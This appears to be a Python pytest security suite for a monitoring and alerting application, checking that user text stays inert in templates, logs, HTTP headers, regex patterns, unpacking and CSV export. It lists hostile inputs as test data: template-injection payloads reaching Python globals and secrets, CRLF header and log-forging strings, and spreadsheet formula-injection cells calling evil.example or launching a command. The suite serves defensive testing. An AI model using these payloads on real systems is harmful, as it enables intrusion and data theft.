"""Does what somebody wrote stay text, in templates, in log lines, in headers, in patterns, in packed bodies and in tables?"""

from __future__ import annotations

import ast
import csv
import functools
import html
import io
import logging
import re
import sys
from collections.abc import Iterator
from dataclasses import replace

import pytest

from alerts import phrasing
from alerts.channels.base import HttpChannel
from alerts.models import MessageTemplate
from console.importing.draft import Line
from console.importing.gatus_conditions import carry_over
from incidents import spelling
from portal.logs import JsonFormatter, PlainFormatter
from tests.alerts.letters import PAGE, TRAPS, trapped
from tests.security import spoiling
from tests.security.test_sinks_are_known import PACKAGES, ROOT

pytestmark = pytest.mark.once

# --- S7: templates -------------------------------------------------------------------------------------------------------
NOT_OURS = [
    *("{{7*7}}", "{{7*'7'}}", "{{ 7 * 7 }}", "{{m.__class__}}", "{{title.__class__.__mro__}}", "{{title|safe}}", "{{title|upper}}"),
    *("{{config}}", "{{settings.SECRET_KEY}}", "{{request}}", "{{self}}", "{{cycler.__init__.__globals__}}", "{{''.__class__}}"),
    *("{{title.0}}", "{{title[0]}}", "{{title()}}", "{{lipsum}}", "{{_self.env}}", "{{constructor}}", "{{#if title}}", "{{/if}}"),
    *("{{> partial}}", "{{!comment}}", "{{& title}}", "{{^title}}", "{{TITLE}}", "{{Title}}", "{{tit le}}", "{{title\u200b}}", "{{}}"),
]  # fmt: skip
PLAIN = [
    *("{% include 'x' %}", "{% load static %}", "{% debug %}", "{% for x in y %}", "{# no #}", "%(title)s", "%s%s%s%n", "%(title.__class__)s"),
    *("{title}", "{0}", "{m.__init__.__globals__}", "{title.__class__}", "{title!r}", "{title:>99999999}", "${title}", "$title", "#{7*7}"),
    *("<%= 7*7 %>", "<% title %>", "[[${7*7}]]", "*{7*7}", "@{x}", "~{x}", "#set($x=7)", "<#assign x=7>", "`id`", "$(id)", "\\u007b"),
    *("{{{title}", "{ {title} }", "{\u200b{title}}", "{%raw%}", "=7*7", "__import__('os')", "${{7*7}", "{{title"),
]  # fmt: skip


def test_the_corpus_is_as_large_as_promised() -> None:
    assert len({*NOT_OURS, *PLAIN}) >= 60


@pytest.mark.parametrize("field", ["title", "text"])
def test_what_is_no_name_of_ours_is_refused_or_plain_text(field: str) -> None:
    for hostile in NOT_OURS:
        unknown = set(phrasing.names_in(hostile)) - phrasing.NAMES.keys()
        assert unknown or phrasing.render(hostile, {"title": "T"}) == hostile, hostile
    for harmless in PLAIN:
        left = phrasing.render(harmless, phrasing.values_of(PAGE))
        assert left == harmless or "{{title}" in harmless, harmless
        said = phrasing.said(PAGE, MessageTemplate(name="x", **{"title": "", "text": "", field: harmless}))
        assert "49" not in said.title + said.cause.replace(PAGE.cause, "") and "SECRET" not in said.title


@pytest.mark.parametrize("trap", [*NOT_OURS, *PLAIN, "{{cause}}", "{{title}}" * 50])
def test_a_value_is_never_read_as_a_template(trap: str) -> None:
    values = phrasing.values_of(replace(PAGE, title=trap, cause="the secret cause"))
    assert "the secret cause" not in phrasing.render("{{title}}", values)


def test_what_names_make_of_a_template_is_bounded() -> None:
    long = replace(PAGE, title="x" * 100_000, cause="y" * 100_000)
    said = phrasing.said(long, MessageTemplate(name="x", title="{{title}}" * 30, text="{{cause}}" * 400))
    assert len(said.title) <= 100_000 * 30
    from alerts import channels
    from tests.alerts.test_channels_contract import made

    for kind in channels.KINDS:
        channel = made(kind)
        if isinstance(channel, HttpChannel):
            assert len(channel.request(said).body or b"") < 60_000, kind


# --- S8: what the search for live markup sees (it looks at every page in test_what_is_shown.py) --------------------------------
@pytest.mark.parametrize(
    "page",
    [
        "<p>{}</p>",
        '<a href="/x?{}">x</a>',
        "<input value='{}'>",
        "<title>{}</title>",
        '<script>var a = "{}";</script>',
        "<!-- {} -->",
    ],
)
@pytest.mark.parametrize("attack", [spoiling.POLYGLOT, spoiling.SHORT])
def test_markup_that_lives_is_found_and_text_is_not(page: str, attack: str) -> None:
    if attack == spoiling.POLYGLOT or "<!--" not in page and "title" not in page and "script" not in page:
        assert spoiling.alive(page.format(attack))[0]
        halfway = attack.replace("<", "&lt;").replace(">", "&gt;")  # quotes forgotten
        assert bool(spoiling.alive(page.format(halfway))[0]) == ("=" in page and "script" not in page)
    found, read = spoiling.alive(page.format(html.escape(attack)))
    assert not found and read


# --- S10: log lines ------------------------------------------------------------------------------------------------------
FORGED = "12:00:00 info    the owner signed in"
BREAKING = ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\x00", "\x1b[2J\x1b[31m", "\x9b2J", "\x08" * 40, "\u202e", "\x07", "\x7f"]  # fmt: skip


def record(text: str, error: bool = False) -> logging.LogRecord:
    found = None
    if error:
        try:
            raise ValueError(text)
        except ValueError:
            found = sys.exc_info()
    return logging.LogRecord("x", logging.WARNING, "x.py", 1, "it said %s", (text,), found)


@pytest.mark.parametrize("sign", BREAKING, ids=ascii)
@pytest.mark.parametrize("error", [False, True], ids=["message", "with a traceback"])
def test_nobody_writes_a_line_of_his_own_into_the_log(sign: str, error: bool) -> None:
    hostile = record(f"shop{sign}{FORGED}", error)
    (line,) = JsonFormatter().format(hostile).splitlines()
    assert line.startswith("{") and line.isprintable() or sign == "\x7f"
    plain = PlainFormatter().format(hostile)
    first, *rest = plain.split("\n")
    assert first.isprintable() and FORGED in first and all(r.startswith("  ") and r.isprintable() for r in rest)
    assert len(rest) == 0 or error
    assert not [line for line in plain.splitlines() if line.startswith("12:00:00")]


@pytest.mark.django_db
def test_a_strange_host_is_one_line_in_the_log(client, caplog) -> None:
    assert client.get("/login/", HTTP_HOST="strange.example").status_code == 400
    (said,) = (r for r in caplog.records if "strange.example" in r.getMessage())
    assert "\n" not in PlainFormatter().format(said)


def test_what_people_write_stays_readable_in_the_log() -> None:
    assert "Müller’s shop 東京" in PlainFormatter().format(record("Müller’s shop 東京"))
    assert "Müller’s shop 東京" in JsonFormatter().format(record("Müller’s shop 東京"))


# --- S10: headers --------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("sign", ["\r\n", "\n", "\r", "\x00", "\u2028", "\u0085", "\x0b"], ids=ascii)
def test_no_field_of_a_message_reaches_a_header(sign: str) -> None:
    from alerts import channels
    from tests.alerts.test_channels_contract import made

    trap = f"shop{sign}X-Injected: 1{sign}{sign}body"
    assert any(sign in t for t in TRAPS) or sign in ("\r", "\n")
    for kind in channels.KINDS:
        channel = made(kind)
        if isinstance(channel, HttpChannel):
            request = channel.request(trapped(trap))
            for name, value in dict(request.headers).items():
                assert name.isprintable() and value.isprintable() and "X-Injected: 1" not in value.split(sign), kind
            assert request.url.isprintable() and " " not in request.url, kind


# --- S24: patterns -------------------------------------------------------------------------------------------------------
# Made of parts that are written in our own source; what people write as a pattern goes to RE2.
OF_OUR_OWN_PARTS = {
    "alerts/addressees.py": "escaped", "alerts/channels/ticket_halopsa.py": "escaped", "alerts/inbound/keys.py": "a number",
    "console/importing/gatus_conditions.py": "digits, stars and question marks; tested below", "monitors/probe/envelope.py": "a number",
    "monitors/checks/dns.py": "a comma or none", "monitors/hosts/registry.py": "our own part", "portal/outbound/target.py": "our own part",
    "statuspages/front.py": "a list of our own", "monitors/checks/assertion.py": "RE2", "monitors/probe/allowed.py": "RE2",
}  # fmt: skip
FUNCTIONS = {"compile", "match", "search", "fullmatch", "sub", "subn", "split", "findall", "finditer"}


@functools.cache
def patterns() -> list[tuple[str, ast.Call]]:
    """Every pattern in the source: (file, the call)."""
    return list(_patterns())


def _patterns() -> Iterator[tuple[str, ast.Call]]:
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            text = path.read_text("utf-8")
            if not re.search(r"\bre2?\.\w+\(", text) or "/demo/" in path.as_posix():
                continue
            for node in ast.walk(ast.parse(text)):
                call = node.func if isinstance(node, ast.Call) else None
                if isinstance(call, ast.Attribute) and call.attr in FUNCTIONS and isinstance(call.value, ast.Name) and call.value.id in ("re", "re2"):  # fmt: skip
                    yield path.relative_to(ROOT).as_posix(), node


def test_no_pattern_that_people_write_reaches_a_backtracking_engine() -> None:
    found = {name for name, call in patterns() if not isinstance(call.args[0], ast.Constant)}
    assert found <= OF_OUR_OWN_PARTS.keys(), f"people's patterns go to re2: {sorted(found - OF_OUR_OWN_PARTS.keys())}"
    engines = {n for n, c in patterns() if not isinstance(c.args[0], ast.Constant) and c.func.value.id == "re2"}  # type: ignore[union-attr]
    assert engines == {"monitors/checks/assertion.py", "monitors/probe/allowed.py"}


def nested(parsed: object, inside: bool = False) -> bool:
    """Does something without end repeat inside something without end? Such a pattern can take for ever."""
    import re._parser as parser  # type: ignore[import-not-found]

    for op, value in parsed:  # type: ignore[attr-defined]
        if op in (parser.MAX_REPEAT, parser.MIN_REPEAT):
            low, most, body = value
            endless = most == parser.MAXREPEAT
            if endless and inside and not _separated(body):
                return True
            if nested(body, inside or endless and not _separated(body)):
                return True
        inner = {parser.SUBPATTERN: lambda v: [v[3]], parser.BRANCH: lambda v: v[1], parser.ASSERT: lambda v: [v[1]], parser.ASSERT_NOT: lambda v: [v[1]]}  # fmt: skip
        if op in inner and any(nested(part, inside) for part in inner[op](value)):
            return True
    return False


def _separated(body: object) -> bool:
    """A repetition that begins or ends with a sign of its own cannot be cut in many ways."""
    import re._parser as parser  # type: ignore[import-not-found]

    first, last = next(iter(body))[0], list(body)[-1][0]  # type: ignore[call-overload]
    return len(list(body)) > 1 and (first in (parser.LITERAL, parser.NOT_LITERAL) or last is parser.LITERAL)  # type: ignore[call-overload]


def test_no_pattern_of_ours_repeats_without_end_inside_a_repetition() -> None:
    import re._parser as parser  # type: ignore[import-not-found]

    assert (
        nested(parser.parse(r"(a+)+$"))
        and nested(parser.parse(r"(?:[a-z]*)*x"))
        and not nested(parser.parse(r"a+(?:\.a+)*"))
    )
    wrong = [
        f"{name}:{call.lineno} {call.args[0].value}"
        for name, call in patterns()
        if isinstance(call.args[0], ast.Constant) and isinstance(call.args[0].value, str) and nested(parser.parse(call.args[0].value))
    ]  # fmt: skip
    assert not wrong


def test_many_stars_of_a_moved_condition_are_one() -> None:
    """With each of them tried in turn, this would not end."""
    config: dict[str, object] = {}
    carry_over(Line("monitor", "shop"), ["[STATUS] == pat(" + "*" * 2000 + "7)"], config, {}, kind="http")
    assert "207" in str(config["accepted_statuses"])


# --- S25: packed bodies, documents that grow ------------------------------------------------------------------------------
UNBOUNDED = re.compile(r"\b(?:zlib|gzip|bz2|lzma|brotli|zstandard)\.decompress\(|\byaml\.(?:load|full_load|unsafe_load)\(|\bpickle\.loads?\(|\bmarshal\.loads?\(")  # fmt: skip
XML = {"playbooks/steps/dns_route53.py": "refuses document types"}


def test_nothing_is_unpacked_without_a_limit_and_no_document_runs_anything() -> None:
    wrong, xml = [], set()
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            text, name = path.read_text("utf-8"), path.relative_to(ROOT).as_posix()
            wrong += [f"{name}: {found}" for found in UNBOUNDED.findall(text)]
            if re.search(r"\bfromstring\(|minidom|\.sax\b|lxml", text):
                xml.add(name)
    assert not wrong
    assert xml <= XML.keys(), f"say how a hostile document is held small: {sorted(xml - XML.keys())}"


# --- S29: tables ---------------------------------------------------------------------------------------------------------
FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|'/c calc'!A0", "\t=1", "\r=1", "\n=1", " =1", "   @x"),
    *("=IMPORTXML(CONCAT(\"http://e/\",A1),\"//a\")", "-2+3+cmd|' /C calc'!A0", "+44 20", "=\u200b1"),
]  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
def test_no_cell_is_a_formula(cell: str) -> None:
    head, row = csv.reader(io.StringIO(spelling.table(["name", "note"], [[cell, 7]]), newline=""))
    assert row == [f"'{cell}", "7"]


def test_every_table_is_written_by_the_one_that_knows() -> None:
    """Those that stream a table by themselves use its `safe_cell`."""
    writers = {
        path.relative_to(ROOT).as_posix()
        for package in PACKAGES
        for path in (ROOT / package).rglob("*.py")
        if re.search(r"\bcsv\.(?:writer|DictWriter)\(", text := path.read_text("utf-8")) and "safe_cell(" not in text
    }
    assert not writers, "write tables with incidents.spelling.table: it disarms formulas"
